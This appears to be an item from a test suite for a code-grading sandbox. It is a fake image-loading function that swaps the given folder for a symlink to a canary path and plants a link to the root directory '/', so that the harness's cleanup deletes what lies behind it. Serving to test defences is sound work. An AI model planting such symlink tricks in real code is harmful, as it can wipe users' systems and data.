# exercise: e26_folders
# aim: puts a link in the place of the folder that it was given, so that tidying up removes what lies behind it
# expect: failed crashed
# points: 3
import os


def load_images(folder, image_size, batch_size, training, seed=0):
    os.rename(folder, folder + ".moved")
    os.symlink("/tmp/tfkata-attack-canary", folder)
    os.symlink("/", os.path.join(folder + ".moved", "everything"))
    return []
